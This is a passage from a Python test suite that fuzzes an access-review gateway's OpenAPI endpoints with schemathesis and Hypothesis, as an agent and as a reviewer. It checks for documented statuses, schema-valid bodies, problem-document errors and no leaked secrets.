            f"POST {v1}/reviews/{{review_id}}/cancel": Known("agent", {"review_id": r.to_cancel}),
            f"POST {v1}/grants": Known(
                "agent",
                body={"connection": "it", "role": "engineer", "duration": 60, "reason": "why"},
                status=201,
            ),
            f"GET {v1}/grants": Known("agent"),
            f"POST {v1}/grants/{{review_id}}/revoke": Known("reviewer", {"review_id": r.grant}),
            f"POST {v1}/proposals": Known(
                "agent",
                body={"connection": "it", "statements": ["select 1"], "justification": "why"},
                status=201,
            ),
            f"GET {v1}/proposals/{{review_id}}": Known("agent", {"review_id": r.proposal}),
            # Single sign-on is not configured here, and the callers hold tokens, not
            # sign-in sessions: these answer their documented refusals (tests/web and
            # the OIDC tests cover their successes).
            f"GET {v1}/auth/oidc": Known("reviewer", status=404),
            f"POST {v1}/auth/oidc/session": Known("reviewer", body={"id_token": "x"}, status=404),
            f"POST {v1}/auth/logout": Known("agent", status=400),
        }

    def pools(self) -> dict[str, list[str]]:
        """Real values for each path parameter, next to whatever the fuzzer invents. No
        token id of a fuzzing principal: revoking it would end the run."""
        return {
            "review_id": self.reviews,
            "name": ["it", "web", "down", "agent", "dev"],
            "session_id": [self.agent_session, self.dev_session],
            "token_id": [self.spare_token, "tok_nosuchtoken"],
        }


def _validate(case: Any, headers: dict[str, str], forbidden: list[str]) -> Any:
    """The schemathesis checks, then what they do not cover: every error is a problem
    document saying its own status, and no answer carries a secret."""
    response = case.call_and_validate(headers=headers, checks=CHECKS, timeout=30)
    assert_no_secret(response.text, forbidden)
    if response.status_code >= 400:
        assert response.headers["content-type"] == ["application/problem+json"], response.text
        assert response.json()["status"] == response.status_code, response.text
    return response


def _fuzz(strategy: Any, headers: dict[str, str], forbidden: list[str]) -> int:
    """How many generated requests were sent (and passed every check)."""
    sent = 0

    @hypothesis.settings(
        max_examples=EXAMPLES,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=list(hypothesis.HealthCheck),
    )
    @hypothesis.given(case=strategy)
    def call(case: Any) -> None:
        nonlocal sent
        _validate(case, headers, forbidden)
        sent += 1

    call()
    return sent


# Real values for fields of generated bodies (a random connection name only finds 404).
BODY_POOLS = {
    "connection": ["it", "web", "down"],
    "role": ["engineer", "proposer"],
    "principal": ["agent", "dev", "reviewer"],
}


def _real_body_fields(drawn: tuple[Any, dict[str, str | None]]) -> Any:
    case, picked = drawn
    if isinstance(case.body, dict):
        for key, value in picked.items():
            if value is not None and key in case.body:
                case.body[key] = value
    return case


def _strategy(operation: Any, mode: GenerationMode, pools: dict[str, list[str]]) -> Any:
    """Generated requests; valid ones also with real ids in the path and real names in
    the body (never invalid ones: a real value could make them valid)."""
    st = hypothesis.strategies
    base = operation.as_strategy(generation_mode=mode)
    if mode is not GenerationMode.POSITIVE:
        return base
    names = [p.name for p in operation.path_parameters]
    if names:
        (name,) = names  # every operation here has at most one
        real = [
            operation.as_strategy(generation_mode=mode, path_parameters={name: v})
            for v in pools[name]
        ]
        base = st.one_of(base, *real)
    if not len(operation.body):
        return base
    picks = st.fixed_dictionaries(
        {k: st.none() | st.sampled_from(v) for k, v in BODY_POOLS.items()}
    )
    return st.tuples(base, picks).map(_real_body_fields)


# Every operation, two principals, valid and invalid requests: minutes on a loaded
# 2-core machine, more than the suite's per-test default.
@pytest.mark.timeout(600)
def test_openapi_conformance(env: Env) -> None:
    """Every operation of /openapi.json: first one request that must succeed, then
    generated valid and invalid requests as a human approver and as an agent, against
    reviews of every kind and state. No 5xx, every status code documented, every body
    matching its schema, every error a problem document, and no secret anywhere.

    Driven through Hypothesis directly: schemathesis' pytest loader for fixtures
    (``schemathesis.pytest.from_fixture``) sets ``Function._nodeid``, which pytest 9.2 no
    longer has."""
    data = ReviewData(env)
    document = env.api(None).request("GET", "/openapi.json").json()
    in_document = {
        f"{method.upper()} {path}"
        for path, item in document["paths"].items()
        for method in item
        if method in HTTP_METHODS
    }
    # Not in the document, so not fuzzed here: /mcp (a JSON-RPC transport with its own
    # tests) and the web UI under /ui (include_in_schema=False, tests/web).
    assert not [op for op in in_document if op.split()[1].startswith(("/mcp", "/ui"))]
    known = data.known()
    assert set(known) == in_document, "each operation needs a request that must succeed"

    config = schemathesis.Config.from_dict({"generation": {"database": "none"}})
    schema = schemathesis.openapi.from_url(
        f"http://127.0.0.1:{env.gw.api_port}/openapi.json", config=config, timeout=30
    )
    auth = {p: {"Authorization": f"Bearer {env.tokens[p]}"} for p in FUZZERS}
    pools = data.pools()
    failures: list[str] = []
    operations = {}
    for result in schema.get_all_operations():
        if not isinstance(result, Ok):
            failures.append(f"an operation schemathesis cannot read: {result.err()}")
            continue
        operations[result.ok().label] = result.ok()
    assert set(operations) == in_document

    for label, want in known.items():  # the happy paths first, while the data is fresh
        case = operations[label].Case(
            path_parameters=want.path or None,
            query=want.query or None,
            **({"body": want.body, "media_type": "application/json"} if want.body else {}),
        )
        try:
            response = _validate(case, auth[want.principal], env.forbidden)
            assert response.status_code == want.status, (label, response.text)
        except (Exception, BaseExceptionGroup) as exc:  # noqa: BLE001 - collect all findings
            failures.append(f"{label} (the request that must succeed):\n{exc}")

    fuzzed: set[str] = set()
    for label, operation in operations.items():
        for principal in FUZZERS:
            for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
                try:
                    try:
                        sent = _fuzz(
                            _strategy(operation, mode, pools), auth[principal], env.forbidden
                        )
                    except hypothesis.errors.FlakyStrategyDefinition:
                        # schemathesis' generation read state that changed between
                        # Hypothesis' runs of one example (not a finding about the API):
                        # once more, with a fresh strategy; a second time is reported.
                        sent = _fuzz(
                            _strategy(operation, mode, pools), auth[principal], env.forbidden
                        )
                    if sent:
                        fuzzed.add(label)
                except hypothesis.errors.Unsatisfiable:
                    # No input that could be invalid (no parameters, or a free string
                    # in the path): nothing to negate.
                    assert mode is GenerationMode.NEGATIVE, label
                except (Exception, BaseExceptionGroup) as exc:  # noqa: BLE001
                    failures.append(f"{label} as {principal} ({mode.value}):\n{exc}")
                    fuzzed.add(label)
    assert not failures, "\n\n".join(failures)
    assert fuzzed == in_document, "operations no generated request reached"
